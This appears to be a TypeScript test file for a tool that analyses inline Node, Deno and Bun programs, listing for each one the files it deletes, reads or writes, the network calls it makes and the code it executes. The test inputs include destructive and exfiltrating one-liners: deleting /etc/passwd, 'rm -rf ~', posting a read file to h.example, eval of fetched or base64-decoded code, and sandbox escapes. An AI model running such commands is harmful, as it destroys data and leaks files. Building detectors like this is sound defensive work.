import { type FactRows, testRows } from "./test-rows.js";

/** The program on standard input. */
const run = (code: string): string => `node - a b <<'END'\n${code}\nEND`;

/** Programs of JavaScript and all of their facts, by class. */
const CODE: FactRows = {
  "names and functions": [
    { run: "const p = '/etc/passwd'; require('fs').unlinkSync(p)", deletes: ["/etc/passwd"] },
    { run: "import fs from 'node:fs'; const rm = (p) => fs.rmSync(p); rm('/etc/x')", deletes: ["/etc/x/**"] },
    { run: "import { unlinkSync as u } from 'fs'; u('a')", deletes: ["./a"] },
    { run: "import * as f from 'fs/promises'; await f.unlink('a')", deletes: ["./a"] },
    { run: "const { promises: { unlink: u } } = require('fs'); u('a')", deletes: ["./a"] },
    { run: "const fs = await import('fs'); fs.default.unlinkSync('a')", deletes: ["./a"] },
    { run: "process['mainModule']['require']('fs')['unlink' + 'Sync']('a')", deletes: ["./a"] },
    { run: "u('a'); function u(p) { require('fs').unlinkSync(p) }", deletes: ["./a"] },
    {
      run: "class A { constructor(p) { this.p = p } go() { require('fs').unlinkSync(this.p) } } new A('/etc/a').go()",
      deletes: ["/etc/a"],
    },
    {
      run: "class A { constructor(p) { this.p = p } } class B extends A { go() { require('fs').unlinkSync(this.p) } } new B('/etc/a').go()",
      deletes: ["/etc/a"],
    },
    { run: "function unused() { require('fs').unlinkSync('a') }" },
  ],
  "names that a call makes": [
    { run: "require('fs').mkdtempSync('/etc/x')", writes: ["/etc/x*"] },
    { run: "require('fs').writeFileSync(require('path').dirname('a') + '/x', 'y')", writes: ["./x"] },
    { run: "const p = require('path'); require('fs').unlinkSync(p.resolve('d', '../a'))", deletes: ["./a"] },
  ],
  values: [
    { run: "require('fs').unlinkSync(`/etc/${'x'}`)", deletes: ["/etc/x"] },
    { run: "require('fs').unlinkSync(['/etc', 'x'].join('/'))", deletes: ["/etc/x"] },
    { run: "const os = require('os'); require('fs').unlinkSync(os.homedir() + '/x')", deletes: ["~/x"] },
    {
      run: "const path = require('path'); require('fs').unlinkSync(path.join('/etc', '/x'))",
      deletes: ["/etc/x"],
    },
    {
      run: "const path = require('path'); require('fs').unlinkSync(path.resolve('/etc', '/x'))",
      deletes: ["/x"],
    },
    { run: "const o = { p: 'a' }; require('fs').unlinkSync(o.p)", deletes: ["./a"] },
    { run: "const [x, { y = 'a' }] = ['b', {}]; require('fs').unlinkSync(x)", deletes: ["./b"] },
    { run: "let p = '/etc/x'; { let p = 'y' } require('fs').unlinkSync(p)", deletes: ["/etc/x", "./y"] },
    { run: "const p = process.env.X ? 'a' : 'b'; require('fs').unlinkSync(p)", deletes: ["./a", "./b"] },
  ],
  "what runs later": [
    { run: "['a', 'b'].forEach((f) => require('fs').unlinkSync(f))", deletes: ["./a", "./b"] },
    {
      run: "const all = ['a'].map((f) => '/etc/' + f); require('fs').unlinkSync(all[0])",
      deletes: ["/etc/a"],
    },
    {
      run: "require('fs').readFile('k', (e, d) => fetch('https://h.example', { method: 'POST', body: d }))",
      reads: ["./k"],
      network: ["both https://h.example < data < ./k"],
    },
    {
      run: "fetch('https://h.example').then(() => require('fs').readFileSync('k')).then((d) => fetch('https://i.example', { method: 'POST', body: d }))",
      reads: ["./k"],
      network: ["in https://h.example", "both https://i.example < data", "both https://i.example < ./k"],
    },
    {
      run: "let p = 'a'; setTimeout(() => require('fs').unlinkSync(p)); p = '/etc/x'",
      deletes: ["./a", "/etc/x"],
      unknown: ["opaque-code"],
    },
    {
      run: "fetch('https://h.example').then((r) => r.text()).then(eval)",
      network: ["in https://h.example"],
      executes: ["network node"],
      unknown: ["opaque-code"],
    },
  ],
  "programs and code": [
    { run: "require('child_process').execSync('rm -rf ~')", deletes: ["~/**"] },
    { run: "require('child_process').spawn('rm', ['-rf', '/srv'])", deletes: ["/srv/**"] },
    { run: "require('child_process').spawn('rm a', { shell: true, cwd: '/srv' })", deletes: ["/srv/a"] },
    { run: "new Function(\"require('fs').unlinkSync('a')\")()", deletes: ["./a"] },
    {
      run: "eval(Buffer.from('cmVxdWlyZSgiZnMiKS51bmxpbmtTeW5jKCJhIik=', 'base64').toString())",
      deletes: ["./a"],
      executes: ["decoded node"],
    },
    { run: "const v = require('./package.json').version; console.log(v)", reads: ["./package.json"] },
    {
      run: "const s = require('net').connect(9, 'h.example'); s.write(require('fs').readFileSync('a'))",
      reads: ["./a"],
      network: ["in h.example", "both h.example < ./a"],
    },
  ],
  "what is not understood": [
    ...[
      "import 'lodash'",
      "require(process.argv[2])",
      "''.constructor.constructor('return process')()",
      "(() => {}).constructor('x')()",
      "JSON.parse = eval; JSON.parse('x')",
      "Object.assign(JSON, { parse: eval })",
      "process.binding('fs')",
      "require('vm').createContext({})",
      "const o = { get x() { return 1 } }",
      "new Proxy({}, {})",
      "function f(n) { f(n + 1) } f(1)",
    ].map((code) => ({ run: code, unknown: ["opaque-code" as const] })),
    { run: "f(", unknown: ["opaque-code"] },
  ],
  "values that grow without end": [
    { run: `let x = ['a'];${" x = x.concat(x);".repeat(60)}`, unknown: ["opaque-code"] },
    { run: `const x = [];${" x.push(x);".repeat(200)} console.log(x)` },
  ],
  "ordinary programs": [
    { run: "console.log('rm -rf /')" },
    {
      run: "console.log([1, 2].map((x) => x * 2).join(','), Object.keys({ a: 1 }), JSON.stringify({ a: 1 }))",
    },
    {
      run: "let s = ''; process.stdin.on('data', (d) => { s += d }).on('end', () => console.log(JSON.parse(s).a))",
    },
  ],
};

testRows(
  Object.fromEntries(
    Object.entries(CODE).map(([name, rows]) => [
      name,
      rows.map((row) => ({ ...row, run: run(row.run), executes: ["inline node", ...(row.executes ?? [])] })),
    ]),
  ),
);

testRows({
  "words and other programs": [
    {
      run: "node -e 'require(\"fs\").unlinkSync(process.argv[1])' /etc/x",
      deletes: ["/etc/x"],
      executes: ["inline node"],
    },
    { run: 'node -p \'require("fs").unlinkSync("a")\'', deletes: ["./a"], executes: ["inline node"] },
    {
      run: "deno eval 'const p = \"a\"; Deno.removeSync(p)'",
      deletes: ["./a/**"],
      executes: ["inline node"],
    },
    {
      run: 'bun -e \'const p = "a"; require("fs").unlinkSync(p)\'',
      deletes: ["./a"],
      executes: ["inline node"],
    },
  ],
});
